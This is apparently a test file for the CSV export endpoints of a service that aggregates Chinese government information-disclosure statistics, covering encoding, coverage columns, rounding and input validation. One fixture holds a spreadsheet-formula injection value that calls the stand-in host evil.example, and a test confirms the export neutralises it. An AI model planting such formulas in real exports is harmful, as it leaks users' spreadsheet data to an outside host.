import { parse } from 'csv-parse/sync';
import { storeReport } from '../support/factories';
import { startHttpServer, type HttpTestServer } from '../support/http';

let server: HttpTestServer;
beforeAll(async () => {
  server = await startHttpServer('sqlite', async (dataSource) => {
    await storeReport(dataSource, {
      jurisdiction: '440303',
      year: 2022,
      organ: '深圳市罗湖区人民政府',
      values: { 'applications.new.total': 12, 'outcome.total.total': 10 },
    });
    await storeReport(dataSource, {
      jurisdiction: '440304',
      year: 2022,
      organ: '深圳市福田区人民政府',
      values: { 'applications.new.total': 30, 'outcome.total.total': null },
    });
    // 罗湖's education bureau: I2 fails on applications received (7 ≠ 2 + 1), and table 4 is declared
    // missing. (罗湖's government fails I1: 12 received, 10 handled, nothing carried forward.)
    await storeReport(
      dataSource,
      {
        jurisdiction: '440303',
        year: 2022,
        organ: '深圳市罗湖区教育局',
        organKind: 'DEPARTMENT',
        values: {
          'applications.new.natural_person': 2,
          'applications.new.commercial': 1,
          'applications.new.total': 7,
          'outcome.disclosed.total': 1,
          'outcome.partially_disclosed.total': 1,
          'outcome.total.total': 3,
        },
      },
      { missing: [{ part: 'table4', indicators: ['review.total'], reason: 'table 4 cut off' }] },
    );
    // Stored past the importer's checks (as data from before them would be): a source URL that is a formula.
    await storeReport(
      dataSource,
      { jurisdiction: '110101', year: 2022, organ: '北京市东城区人民政府', values: { 'applications.new.total': -3 } },
      { sourceUrl: '=HYPERLINK("http://evil.example/?"&A1,"report")' },
    );
  });
});

async function csv(url: string): Promise<{ status: number; rows: Record<string, string>[] }> {
  const response = await fetch(`${server.url}${url}`);
  const bytes = Buffer.from(await response.arrayBuffer());
  if (response.status !== 200) return { status: response.status, rows: [] };
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return { status: response.status, rows: parse(bytes.subarray(3).toString('utf8'), { columns: true }) as Record<string, string>[] };
}
afterAll(() => server.close());

describe('GET /export/cells.csv', () => {
  it('exports the cells request as UTF-8 CSV with a BOM, labels, units, statuses and source URLs', async () => {
    const response = await fetch(
      `${server.url}/export/cells.csv?childrenOf=440300&indicators=applications.new.total,outcome.total.total&from=2022&to=2022&measure=OWN`,
    );
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes.subarray(3).toString('utf8'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(9 * 2);
    const luohu = rows.find((r) => r.jurisdiction_code === '440303' && r.indicator_code === 'applications.new.total');
    expect(luohu).toMatchObject({
      jurisdiction_name: '罗湖区',
      label_zh: '一、本年新收政府信息公开申请数量（总计）',
      unit: '件',
      year: '2022',
      value: '12',
      status: 'VALUE',
    });
    expect(luohu?.label_en).toBeTruthy();
    expect(luohu?.source_urls).toMatch(/^https:\/\/example\.org\/report\/\d+$/);
    expect(rows.find((r) => r.jurisdiction_code === '440304' && r.indicator_code === 'outcome.total.total')).toMatchObject({
      value: '',
      status: 'BLANK',
    });
    expect(rows.find((r) => r.jurisdiction_code === '440306')).toMatchObject({ value: '', status: 'MISSING', source_urls: '' });
  });

  it('neutralises text a spreadsheet would run as a formula (a leading apostrophe); numbers stay numbers', async () => {
    const response = await fetch(
      `${server.url}/export/cells.csv?jurisdictions=110101&indicators=applications.new.total&from=2022&to=2022&measure=OWN`,
    );
    const rows = parse(
      Buffer.from(await response.arrayBuffer())
        .subarray(3)
        .toString('utf8'),
      { columns: true },
    ) as Record<string, string>[];
    expect(rows[0].source_urls).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"report")`);
    expect(rows[0].value).toBe('-3');
  });

  it('refuses an export over OGI_MAX_COST before computing it, and NUL in a parameter', async () => {
    const big = await fetch(
      `${server.url}/export/cells.csv?level=PREFECTURE&indicators=applications.new.total,outcome.total.total&from=2014&to=2024&measure=ROLLUP`,
    );
    expect(big.status).toBe(400);
    expect(((await big.json()) as { errors: { extensions: { code: string } }[] }).errors[0].extensions.code).toBe('QUERY_TOO_COSTLY');
    const nul = await fetch(`${server.url}/export/cells.csv?childrenOf=440300%00&indicators=applications.new.total&from=2022&to=2022`);
    expect(nul.status).toBe(400);
    expect(((await nul.json()) as { errors: { message: string; extensions: { code: string } }[] }).errors[0]).toMatchObject({
      extensions: { code: 'BAD_USER_INPUT', argument: 'childrenOf' },
    });
  });

  it("gives a roll-up's status, reason, coverage, composition, quality, organs and sources in columns", async () => {
    const { rows } = await csv(
      '/export/cells.csv?jurisdictions=440300,440303&indicators=applications.new.total,derived.disclosure_rate,review.total&from=2022&to=2022&measure=BEST',
    );
    const luohu = rows.find((r) => r.jurisdiction_code === '440303' && r.indicator_code === 'applications.new.total');
    expect(luohu).toMatchObject({
      measure: 'BEST',
      value: '19',
      status: 'VALUE',
      coverage_expected: '1',
      coverage_reported: '1',
      coverage_missing: '0',
      coverage_complete: 'true',
      reports: '2',
      reports_with_failures: '2',
    });
    expect(
      luohu?.failed_checks
        .split('; ')
        .map((c) => c.replace(/report \d+/, 'report N'))
        .sort(),
    ).toEqual(['I1 total (report N: 12 ≠ 10)', 'I1 total (report N: 7 ≠ 3)', 'I2 applications.new (report N: 7 ≠ 3)']);
    expect(luohu?.organs.split('; ').sort()).toEqual(['深圳市罗湖区人民政府', '深圳市罗湖区教育局']);
    expect(luohu?.source_urls.split(' ')).toHaveLength(2);
    expect(luohu?.composition).toBe('2022: the OWN reports of 2 organs of 罗湖区 (440303)');
    const review = rows.find((r) => r.jurisdiction_code === '440303' && r.indicator_code === 'review.total');
    expect(review).toMatchObject({ status: 'MISSING', coverage_complete: 'false' });
    expect(review?.reason).toMatch(/declare/);
    expect(review?.missing_parts).toMatch(/^table4 \(report \d+: table 4 cut off\)$/);
    const shenzhen = rows.find((r) => r.jurisdiction_code === '440300' && r.indicator_code === 'applications.new.total');
    // 深圳's subtree: 罗湖 and 福田 reported, the others (zones left out) did not, nor did 深圳's government.
    expect(Number(shenzhen?.coverage_reported)).toBe(2);
    expect(Number(shenzhen?.coverage_missing)).toBe(Number(shenzhen?.coverage_expected) - 2);
    expect(shenzhen?.coverage_complete).toBe('false');
  });

  it('keeps full precision, and rounds ratios only when asked (decimals)', async () => {
    const query =
      '/export/cells.csv?jurisdictions=440303&indicators=derived.disclosure_rate,applications.new.total&from=2022&to=2022&measure=ROLLUP';
    const full = (await csv(query)).rows;
    const rate = full.find((r) => r.indicator_code === 'derived.disclosure_rate')?.value;
    expect(Number(rate)).toBeCloseTo(2 / 13, 12);
    expect(rate?.length).toBeGreaterThan(10);
    const rounded = (await csv(`${query}&decimals=3`)).rows;
    expect(rounded.map((r) => r.value)).toEqual(['0.154', '19']);
  });

  it("rounds a matrix's ratios the same way for dashboards (decimals), never its counts", async () => {
    const query = `query($d: Int) { matrix(jurisdictions: { codes: ["440303"] }, indicators: ["derived.disclosure_rate", "applications.new.total"], years: { from: 2022, to: 2022 }, measure: ROLLUP, decimals: $d) { values } }`;
    const full = await server.api.execute<{ matrix: { values: number[] } }>(query, {});
    const rounded = await server.api.execute<{ matrix: { values: number[] } }>(query, { d: 3 });
    expect(full.matrix.values[0]).toBeCloseTo(2 / 13, 12);
    expect(rounded.matrix.values).toEqual([0.154, 19]);
    expect((await server.api.errorsOf(query, { d: 13 }))[0].code).toBe('BAD_USER_INPUT');
  });

  it('answers bad parameters with 400 and a code', async () => {
    for (const query of [
      'childrenOf=440300&indicators=applications.new.total&from=20&to=2022',
      'childrenOf=440300&indicators=applications.new.total&from=2022&to=2022&decimals=x',
      'childrenOf=440300&indicators=applications.new.total&from=2022&to=2022&exclude=BAD',
    ]) {
      const response = await fetch(`${server.url}/export/cells.csv?${query}`);
      expect(response.status).toBe(400);
      const body = (await response.json()) as { errors: { extensions: { code: string } }[] };
      expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    }
  });
});

describe('GET /export/report.csv and /export/indicators.csv', () => {
  it('exports every observation of a report with its table cell, and the cells it declared missing', async () => {
    const { rows } = await csv('/export/report.csv?jurisdiction=440303&year=2022');
    const bureau = rows.filter((r) => r.organ === '深圳市罗湖区教育局');
    expect(bureau.filter((r) => r.status === 'VALUE')).toHaveLength(6);
    expect(bureau.find((r) => r.indicator_code === 'applications.new.total')).toMatchObject({
      value: '7',
      source_table: 'table3',
      source_row: 'applications.new.total',
      scope: 'OWN',
      current: 'true',
      label_zh: '一、本年新收政府信息公开申请数量（总计）',
    });
    expect(bureau.find((r) => r.indicator_code === 'review.total')).toMatchObject({
      status: 'MISSING',
      source_table: 'table4',
      reason: 'table 4 cut off',
    });
    const byId = await csv(`/export/report.csv?id=${bureau[0].report_id}`);
    expect(byId.rows).toEqual(bureau);
    expect((await csv('/export/report.csv?id=999999')).status).toBe(400);
    expect((await csv('/export/report.csv')).status).toBe(400);
  });

  it('exports the indicator catalog as a codebook', async () => {
    const { rows } = await csv('/export/indicators.csv');
    expect(rows.length).toBeGreaterThan(250);
    expect(rows.find((r) => r.code === 'derived.disclosure_rate')).toMatchObject({
      unit: 'ratio',
      formula: expect.stringContaining('outcome.total.total'),
      label_zh: expect.stringMatching(/公开率/),
    });
  });
});
